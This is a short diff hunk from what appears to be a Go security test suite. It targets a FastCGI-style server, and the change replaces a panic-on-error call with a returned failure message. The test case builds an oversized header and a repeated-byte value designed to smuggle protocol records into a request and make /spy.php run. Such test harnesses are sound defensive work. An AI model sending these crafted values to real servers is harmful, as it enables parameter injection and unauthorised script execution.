@@ -107,7 +107,9 @@ var attacks = []attack{
 			// has lost its seventeenth bit would end.
 			x, evil := strings.Repeat("x", 40000), strings.Repeat("\x01\x04\x01\x01", 7000)
 			reply, err := stack.Ask(addr, nil, stack.ParamsFor(docroot, "GET", "/spy.php", "HTTP_X", x, "HTTP_Y", evil, "QUERY_STRING", "more=0")...)
-			y.must(err)
+			if err != nil {
+				return false, "the connection breaks: " + err.Error()
+			}
 			if reply.Status != 200 || len(reply.Body) == 0 {
 				return false, fmt.Sprintf("%d, and nothing ran", reply.Status)
 			}
